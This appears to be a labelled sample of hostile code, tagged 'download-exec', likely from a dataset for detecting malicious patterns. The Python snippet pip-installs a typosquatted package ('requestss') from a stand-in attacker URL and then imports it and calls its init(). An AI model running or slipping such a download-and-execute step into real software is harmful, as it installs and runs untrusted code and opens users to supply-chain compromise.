# family: download-exec
# a package installed from an attacker URL, then imported and run
import importlib
import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "pip", "install", "-q",
                       "https://files.example.invalid/requestss-2.31.0.tar.gz"])
importlib.import_module("requestss").init()
